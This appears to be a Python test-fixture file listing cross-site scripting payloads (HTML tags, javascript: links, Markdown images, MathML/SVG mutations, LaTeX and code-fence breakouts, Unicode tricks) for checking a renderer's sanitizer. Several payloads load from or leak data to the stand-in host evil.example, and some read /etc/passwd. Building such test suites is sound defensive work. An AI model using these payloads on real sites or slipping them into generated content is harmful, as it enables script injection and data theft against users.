"""Texts that try to become more than text, written for these tests: `PAYLOADS`, for the renderer and for the browser.

Each one calls `alert`, or fetches from evil.example, if it gets through. By kind: plain HTML, attributes, addresses,
Markdown that makes HTML, mutations in foreign content, formulas, code, citations, characters.
"""

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<IMG SRC="jav&#x09;ascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=p autofocus onfocus=alert(1)><button>Go</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed;inset:0;background:url(//evil.example/z)">x</div>',
    "<input type=image src=//evil.example/i onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "</p><script>alert(1)</script><p>",
    "</div></div></main><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<button class=copy onclick=alert(1) formaction=javascript:alert(1)>x</button>",
]

ADDRESSES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/steal)",
    "[x](\\\\evil.example\\steal)",
    "[x](https://bank.example@evil.example/)",
    "[x](https:\\\\evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x](/api/logout)",
    '[x](https://evil.example "a\\" onmouseover=alert(1) b")',
    '[x](https://evil.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)>',
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/<script>alert(1)</script>",
    "[a]: javascript:alert(1)\n\n[a]",
]

IMAGES = [
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](HTTP://evil.example/p.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](/files/../api/me/export)",
    "![x](/files/..%2f..%2fetc%2fpasswd)",
    "![x](/files/abcdefghijklmnopqrst?x=//evil.example)",
    '!["onerror=alert(1) x="](/files/abcdefghijklmnopqrst)',
    '![x](/files/abcdefghijklmnopqrst "t\\"onerror=alert(1)")',
    "![a][b]\n\n[b]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "| ![x](https://evil.example/p.png) |\n|---|\n| <img src=x onerror=alert(1)> |",
]

MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<math href=javascript:alert(1)>CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x /></svg>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><form><input onfocus=alert(1) autofocus></table>",
]

FORMULAS = [
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\text{</math><script>alert(1)</script>}$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\class{x\" onmouseover=\"alert(1)}{y}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\color{red\" onclick=\"alert(1)}{x}$",
    r"$\mbox{<style>@import '//evil.example';</style>}$",
    r"$\includegraphics{//evil.example/x.png}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"\[\unicode{60}img src=x onerror=alert(1)\unicode{62}\]",
    r"$\hspace{-9999em}\rule{9999em}{9999em}$",
    "$<script>alert(1)</script>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
]

CODE = [
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    <img src=x onerror=alert(1)>",
    "~~~svg\n<svg onload=alert(1)>\n~~~",
    "```python\n'''</span><img src=x onerror=alert(1)>'''\n```",
]

CITATIONS = [
    "<sup><|1|></sup>",
    "<sup><|2|></sup>",
    "<sup><|3|></sup>",
    "<sup onclick=alert(1)><|1|></sup>",
    '<sup><|1" onclick="alert(1)|></sup>',
    "<sup><|9999999999999999999999|></sup>",
]

CHARACTERS = [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=alert(1)\x0c>",
    "\ufeff<script>alert(1)</script>",
    "<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=\u2028alert(1)>",
]

PAYLOADS = HTML + ADDRESSES + IMAGES + MUTATIONS + FORMULAS + CODE + CITATIONS + CHARACTERS
